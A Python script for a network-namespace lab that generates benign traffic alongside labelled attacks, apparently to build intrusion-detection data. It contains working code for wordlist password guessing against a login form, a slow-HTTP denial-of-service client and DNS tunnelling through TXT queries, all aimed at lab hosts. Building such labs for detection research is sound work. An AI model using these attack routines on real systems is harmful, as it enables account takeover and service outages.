#!/usr/bin/env -S python3 -B
"""What the hosts of the lab do: started by `record`, each inside of one namespace.

    actors.py vlan ID                        a tagged subinterface of eth0
    actors.py login-form PORT                the form whose password is guessed
    actors.py tunnel-authority PORT          answers the zone that the tunnel asks
    actors.py normal NAME SEED               normal use until the file `stop` appears
    actors.py visit                          the attacker host's own normal use
    actors.py guess ADDRESS PORT COUNT       attack: passwords at the login form
    actors.py slow-http ADDRESS PORT CONNECTIONS SECONDS    attack: headers that never end
    actors.py dns-tunnel ADDRESS ZONE COUNT  attack: data in the labels of TXT queries

Each connection whose local port is known is written to `connections.jsonl` when it is made: the
lab's own record of what belongs to what.
"""

import base64
import fcntl
import http.server
import json
import os
import random
import select
import socket
import struct
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path

from network import HOSTS, ZONE

WORK = Path(os.environ.get("LAB_WORK", "."))
GUESSES_BEFORE_LOCK = 30


def note(proto, local, remote, label):
    line = json.dumps({"proto": proto, "src_ip": local[0], "src_port": int(local[1]), "dst_ip": remote[0],
                       "dst_port": int(remote[1]), "label": label, "time": time.time()})
    with open(WORK / "connections.jsonl", "a") as log:
        log.write(line + "\n")


# -- the network's own part --------------------------------------------------------------


def vlan(number):
    """Carry frames between a TAP device and eth0, with an 802.1Q tag on the side of eth0."""
    number = int(number)
    tap = os.open("/dev/net/tun", os.O_RDWR)
    set_interface, tap_without_header = 0x400454CA, 0x1002
    fcntl.ioctl(tap, set_interface, struct.pack("16sH22x", f"vlan{number}".encode(), tap_without_header))
    every_protocol, sol_packet, packet_auxdata = 3, 263, 8
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(every_protocol))
    wire.bind(("eth0", every_protocol))
    wire.setsockopt(sol_packet, packet_auxdata, 1)
    tag = struct.pack("!HH", 0x8100, number)
    while True:
        ready, _, _ = select.select([tap, wire], [], [])
        if tap in ready:
            frame = os.read(tap, 2048)
            wire.send(frame[:12] + tag + frame[12:])
        if wire in ready:
            frame, extra, _, address = wire.recvmsg(2048, 64)
            if address[2] == socket.PACKET_OUTGOING:
                continue
            # The kernel takes the tag out of the frame and tells it beside.
            for level, kind, data in extra:
                if (level, kind) == (sol_packet, packet_auxdata):
                    status, tci = struct.unpack_from("I", data)[0], struct.unpack_from("H", data, 16)[0]
                    if status & 0x10 and tci & 0xFFF == number:
                        try:
                            os.write(tap, frame)
                        except OSError:
                            pass  # the device is not up yet


# -- servers -----------------------------------------------------------------------------


class Form(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version, sys_version = "login-form/1", ""
    failures = {}
    lock = False

    def answer(self, code, text):
        body = f"<!doctype html><title>Sign in</title>\n<p>{text}</p>\n".encode()
        self.send_response(code)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.answer(200, "<form method=post action=/login><input name=user><input name=password type=password></form>")

    def do_POST(self):
        length = min(int(self.headers.get("Content-Length", 0)), 4096)
        sent = urllib.parse.parse_qs(self.rfile.read(length).decode())
        who = self.client_address[0]
        if sent.get("password") == ["correct horse"]:
            Form.failures[who] = 0
            return self.answer(200, "Welcome")
        Form.failures[who] = Form.failures.get(who, 0) + 1
        self.close_connection = True
        self.answer(401, "Wrong name or password")
        if Form.failures[who] >= GUESSES_BEFORE_LOCK:
            Form.lock, Form.failures[who] = True, 0

    def log_message(self, *_):
        pass


class FormServer(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    request_queue_size = 32
    allow_reuse_address = True

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.bind(self.server_address)
        self.server_name, self.server_port = "web", self.server_address[1]


def login_form(port):
    """After 30 wrong passwords in a row the form closes its port for eight seconds: a crude lock."""
    while True:
        with FormServer(("::", int(port)), Form) as server:
            server.timeout = 0.05
            while not Form.lock:
                server.handle_request()
        Form.lock = False
        time.sleep(8)


def tunnel_authority(port):
    """Answers each TXT query below the tunnel's zone with what looks like data."""
    source = random.Random(5353)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", int(port)))
    while True:
        query, peer = server.recvfrom(1500)
        end = 12
        while query[end]:
            end += 1 + query[end]
        question = query[12 : end + 5]
        text = base64.b64encode(source.randbytes(source.randint(60, 120)))
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 1, len(text) + 1) + bytes([len(text)]) + text
        server.sendto(query[:2] + b"\x84\x00" + struct.pack("!HHHH", 1, 1, 0, 0) + question + answer, peer)


# -- clients -----------------------------------------------------------------------------

TYPES = {"A": 1, "CNAME": 5, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28}


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, TYPES[kind], 1)


def ask(server, name, kind, label="benign", tcp=False, port=0):
    """One DNS query from a port of its own; the length of the answer."""
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        if port:
            s.bind(("", port))
        s.connect((server, 53))
        note("tcp" if tcp else "udp", s.getsockname(), s.getpeername(), label)
        message = question(name, kind)
        if tcp:
            s.sendall(struct.pack("!H", len(message)) + message)
            return len(s.recv(4096))
        s.send(message)
        return len(s.recv(4096))


def curl(*arguments, urls):
    discard = ["-o", "/dev/null"] * len(urls)
    done = subprocess.run(
        ["curl", "-q", "-s", "--max-time", "20", "-w", "%{local_ip} %{local_port} %{remote_ip} %{remote_port}\n",
         *discard, *arguments, *urls],
        capture_output=True, text=True, timeout=30)
    for line in set(done.stdout.splitlines()):
        local_ip, local_port, remote_ip, remote_port = (line.split(" ") + [""] * 4)[:4]
        if local_ip and remote_port not in ("", "0"):
            note("tcp", (local_ip, local_port), (remote_ip, remote_port), "benign")


def ssh(command):
    subprocess.run(
        ["ssh", "-F", "none", "-i", str(WORK / "user-key"), "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
         "-o", "StrictHostKeyChecking=accept-new", "-o", f"UserKnownHostsFile={WORK}/known-hosts",
         f"root@admin.{ZONE}", command],
        stdout=subprocess.DEVNULL, check=True, timeout=20)


def ping(address, count):
    subprocess.run(["ping", "-n", "-q", "-c", str(count), "-i", "0.2", "-w", "4", address], stdout=subprocess.DEVNULL, timeout=10)


def closed_port(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((address, 9999))
        note("udp", s.getsockname(), s.getpeername(), "benign")
        s.send(b"is anybody there?")
        time.sleep(0.05)


def pages(source, host, *arguments):
    number = source.randrange(12)
    curl(*arguments, urls=[f"http://{host}/page{number}.html", f"http://{host}/picture{number % 4}.png"])


def login(source, password):
    curl("-4", "--data-urlencode", "user=bob", "--data-urlencode", f"password={password}",
         urls=[f"http://web.{ZONE}:8080/login"])


def normal_acts(name, source):
    """(weight, most times, act): each is done once before chance decides."""
    web, dns = HOSTS["web"], HOSTS["dns"]
    site = f"web.{ZONE}"
    lookups = [("A", f"web.{ZONE}"), ("AAAA", f"web.{ZONE}"), ("A", f"www.{ZONE}"), ("MX", ZONE), ("TXT", ZONE),
               ("CNAME", f"www.{ZONE}"), ("A", f"nowhere.{ZONE}"), ("PTR", "20.0.77.10.in-addr.arpa")]

    def lookup(tcp=False, server=dns.ip4):
        kind, wanted = source.choice(lookups)
        ask(server, wanted, kind, tcp=tcp)

    acts = [(1, 1, lambda k=kind, n=wanted: ask(dns.ip4, n, k)) for kind, wanted in lookups]
    acts += [
        (10, 999, lambda: pages(source, site)),
        (10, 999, lambda: pages(source, site, "-4")),
        (4, 999, lambda: pages(source, f"www.{ZONE}", "-6")),
        (10, 999, lambda: lookup()),
        (3, 999, lambda: lookup(server=dns.ip6)),
        (3, 999, lambda: lookup(tcp=True)),
        (2, 8, lambda: login(source, "correct horse")),
        (1, 2, lambda: login(source, "corect horse")),
        (2, 6, lambda: ping(web.ip4, 3)),
        (2, 6, lambda: ping(web.ip6, 3)),
    ]
    if name == "client":
        acts += [
            (4, 999, lambda: pages(source, web.vlan_ip4)),
            (2, 999, lambda: pages(source, f"[{web.vlan_ip6}]", "-g")),
            (1, 2, lambda: ping(web.vlan_ip4, 2)),
            (1, 1, lambda: curl(urls=[f"http://{web.vlan_ip4}/small.bin"])),
            (1, 3, lambda: closed_port(web.ip4)),
            (1, 2, lambda: closed_port(web.ip6)),
            (2, 5, lambda: ssh("uname -s; seq 1 900")),
            (2, 3, lambda: curl("-4", urls=[f"http://{site}/medium.bin"])),
            (1, 1, lambda: curl("-4", "--limit-rate", "60k", urls=[f"http://{site}/large.bin"])),
            (1, 1, lambda: curl("-6", urls=[f"http://{site}/large.bin"])),
        ]
    return acts


def normal(name, seed):
    source = random.Random(int(seed))
    left = [[weight, times, act] for weight, times, act in normal_acts(name, source)]
    first = list(left)
    source.shuffle(first)
    deadline = time.monotonic() + 150
    while not (WORK / "stop").exists() and time.monotonic() < deadline:
        if first:
            chosen = first.pop()
        else:
            possible = [entry for entry in left if entry[1] > 0]
            chosen = source.choices(possible, [entry[0] for entry in possible])[0]
        chosen[1] -= 1
        chosen[2]()
        time.sleep(source.uniform(0.1, 0.6))


def visit():
    """Normal use by the attacker's machine, IPv4 only; what it does is benign."""
    ask(HOSTS["dns"].ip4, f"web.{ZONE}", "A")
    curl("-4", urls=[f"http://web.{ZONE}/index.html"])
    ping(HOSTS["web"].ip4, 2)


# -- attacks -----------------------------------------------------------------------------

WORDS = ("123456 password qwerty letmein dragon monkey football iloveyou admin welcome login princess sunshine "
         "master hello freedom whatever trustno1 starwars passw0rd").split()


def guess(address, port, count):
    for number in range(int(count)):
        password = WORDS[number % len(WORDS)] + ("" if number < len(WORDS) else "1")
        body = urllib.parse.urlencode({"user": "alice", "password": password})
        request = (f"POST /login HTTP/1.1\r\nHost: {address}:{port}\r\nUser-Agent: guess/1\r\n"
                   f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n{body}")
        with socket.socket() as s:
            s.settimeout(3)
            s.bind((HOSTS["attacker"].ip4, 0))
            try:
                s.connect((address, int(port)))
            except ConnectionRefusedError:
                note("tcp", s.getsockname(), (address, port), "attempted: Password guessing")
            else:
                note("tcp", s.getsockname(), (address, port), "Password guessing")
                s.sendall(request.encode())
                while s.recv(4096):
                    pass
        time.sleep(0.2)


def slow_http(address, port, connections, seconds):
    sockets = []
    for number in range(int(connections)):
        s = socket.create_connection((address, int(port)), timeout=3)
        note("tcp", s.getsockname(), s.getpeername(), "Slow HTTP")
        s.sendall(f"GET /page{number % 12}.html HTTP/1.1\r\nHost: web.{ZONE}\r\n".encode())
        sockets.append(s)
        time.sleep(0.02)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        time.sleep(1.5)
        for number, s in enumerate(sockets):
            s.sendall(f"X-{number}: {random.randrange(10**6)}\r\n".encode())
            time.sleep(0.005)
    for s in sockets:
        s.close()


def dns_tunnel(address, zone, count):
    # below the ports that the kernel gives out, so that none is used twice
    ports = random.sample(range(10_000, 30_000), int(count))
    for number, port in enumerate(ports):
        data = base64.b32encode(os.urandom(random.randint(70, 105))).decode().rstrip("=").lower()
        labels = [data[at : at + 60] for at in range(0, len(data), 60)]
        ask(address, ".".join([f"{number:04x}", *labels, zone]), "TXT", label="DNS tunnel", port=port)
        time.sleep(0.03)


ACTS = {"vlan": vlan, "login-form": login_form, "tunnel-authority": tunnel_authority, "normal": normal, "visit": visit,
        "guess": guess, "slow-http": slow_http, "dns-tunnel": dns_tunnel}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ACTS:
        sys.exit(__doc__)
    ACTS[sys.argv[1]](*sys.argv[2:])
